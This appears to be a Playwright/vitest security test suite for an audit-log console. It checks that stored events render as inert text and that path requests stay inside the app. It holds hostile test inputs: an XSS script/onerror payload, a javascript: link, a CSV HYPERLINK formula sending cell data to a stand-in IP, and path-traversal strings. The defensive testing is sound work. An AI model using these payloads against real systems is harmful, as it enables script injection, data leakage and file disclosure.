import { readFile } from 'node:fs/promises'
import type { Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { askAt } from '../../indexer/ingest/testing.ts'
import { LIMITS } from '../../schema/index.ts'
import type { Chromium } from './chromium.ts'
import { World } from './world.ts'

const SCRIPT = '<img src=x onerror="window.owned=1"><script>window.owned=1</script>'
const LINK = 'javascript:window.owned=1'
const FORMULA = '=HYPERLINK("http://198.51.100.1/"&A1,"x")'
const ANSI = '\u001b[2J\u001b[31mred'
const TURNED = 'invoice\u202efdp.exe'
/** 900,000 characters, as long as each may be. */
const LONG = Array.from({ length: 110 }, () => 'x'.repeat(LIMITS.keywordLength))

let world: World
let browser: Chromium
let page: Page
let ids: string[]
beforeAll(async () => {
  world = await World.start()
  // An operator allows the agent any host, so that hostile names of hosts are stored, too.
  const { token } = JSON.parse(await readFile(world.strict.file('local-token'), 'utf8'))
  const allowed = await askAt(world.url, `/v1/agents/${world.agent.id}/hosts`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${token}` },
    json: { hosts: ['*'] },
  })
  expect(allowed.status).toBe(200)
  const everywhere = (text: string, ago: number) => ({
    ago,
    message: text,
    user: { name: text, email: text, roles: [text] },
    host: { name: text },
    user_agent: { name: text, os: { name: text } },
    event: { action: text, module: text, code: text, reason: text, original: text },
    audit: {
      category: 'change',
      module: text,
      component: text,
      variant: text,
      risk: text,
      status: text,
      session: { id: text },
      entity: { type: text, id: text, name: text },
      changes: [{ field: text, old: text, new: `${text}!` }],
      payload: { [text.slice(0, 60)]: { inner: text } },
    },
  })
  ids = await world.happened([
    everywhere(SCRIPT, 1),
    everywhere(LINK, 2),
    everywhere(FORMULA, 3),
    everywhere(ANSI, 4),
    everywhere(TURNED, 5),
    {
      ago: 6,
      message: 'a long one',
      user: { name: 'long' },
      audit: { category: 'activity', payload: { long: LONG } },
    },
  ])
  browser = await world.browser()
  page = await world.signedIn(browser, 'auditor')
})
afterAll(async () => {
  await browser.end()
  await world.end()
})
afterEach(async () => {
  expect(await page.evaluate('window.owned')).toBeUndefined()
  // A violation of the policy would be among the complaints.
  expect(browser.complaints).toEqual([])
})

const SCREENS = [
  '/',
  '/events',
  '/security',
  '/people',
  '/system',
  '/auditor',
  `/people?user=${encodeURIComponent(SCRIPT)}`,
  `/reports/make/data-change?from=2020-01-01&to=2099-12-31&preview=yes&q=${encodeURIComponent('event.outcome: success')}`,
  `/reports/make/user-access?user=${encodeURIComponent(SCRIPT)}&preview=yes`,
]

describe('what an event holds is text, and nothing else', () => {
  it.each(SCREENS)('on %s', async (path) => {
    await page.goto(world.url + path)
    await page.getByRole('heading', { level: 1 }).waitFor({ state: 'attached' })
    await page.waitForLoadState('networkidle')
    expect(await page.locator('a[href^="javascript:" i], img[src="x"]').count()).toBe(0)
  })

  it.each([0, 1, 2, 3, 4, 5])('in each part of the entry %i', async (index) => {
    await page.goto(`${world.url}/events/${ids[index]}`)
    await page.getByRole('tab', { name: 'Entry', exact: true }).waitFor()
    for (const tab of await page.getByRole('tab').all()) {
      await tab.click()
      await page.waitForLoadState('networkidle')
    }
    expect(await page.locator('a[href^="javascript:" i], img[src="x"]').count()).toBe(0)
    expect(await page.locator('pre.original').count()).toBeLessThanOrEqual(1)
  })

  it('control characters and marks that turn text are shown as signs in the original', async () => {
    for (const [index, sign] of [
      [3, '␛[2J'],
      [4, '‹U+202E›'],
    ] as const) {
      await page.goto(`${world.url}/events/${ids[index]}`)
      await page.getByRole('tab', { name: 'Original' }).click()
      expect(await page.locator('pre.original').textContent()).toContain(sign)
    }
  })

  it('a formula is text in a CSV', async () => {
    await page.goto(`${world.url}/events?q=${encodeURIComponent('user: *HYPERLINK*')}&columns=user.name`)
    await page.getByRole('button', { name: 'Export results' }).click()
    const download = page.waitForEvent('download')
    await page.getByRole('button', { name: 'CSV, the columns shown' }).click()
    const csv = await readFile(await (await download).path(), 'utf8')
    expect(csv).toContain(`"'=HYPERLINK(""http`)
  })

  it('a value can be filtered by, whatever it looks like in the query language', async () => {
    const strange = 'a" or * : "\\'
    await world.happened([{ ago: 1, user: { name: strange }, message: 'strange' }])
    await page.goto(`${world.url}/events?f=${encodeURIComponent(`user.name:${JSON.stringify([strange])}`)}`)
    await page.getByRole('row', { name: /strange/ }).waitFor()
    expect(await page.locator('.grid-body tr').count()).toBe(1)
  })
})

describe('what is asked for by path', () => {
  it.each([
    '/assets/../../../package.json',
    '/assets/%2e%2e/%2e%2e/package.json',
    '/..%2f..%2fpackage.json',
    '/assets/..%5c..%5cpackage.json',
    '/assets/nothing.js',
    '/built/index.html.br',
  ])('never leaves the console: %s', async (path) => {
    const answer = await fetch(world.url + path)
    expect(answer.status).toBe(404)
    expect(await answer.text()).not.toContain('devDependencies')
  })

  it('files with a hash in their name are kept for good, the page is not; both under the strict policy', async () => {
    const index = await fetch(`${world.url}/events`)
    const script = /src="(\/assets\/[^"]+\.js)"/.exec(await index.text())?.[1] ?? ''
    const asset = await fetch(world.url + script, { headers: { 'accept-encoding': 'br' } })
    expect(index.headers.get('cache-control')).toBe('no-cache')
    expect(asset.headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
    expect(asset.headers.get('content-encoding')).toBe('br')
    for (const answer of [index, asset])
      expect(answer.headers.get('content-security-policy')).not.toContain('unsafe')
  })
})
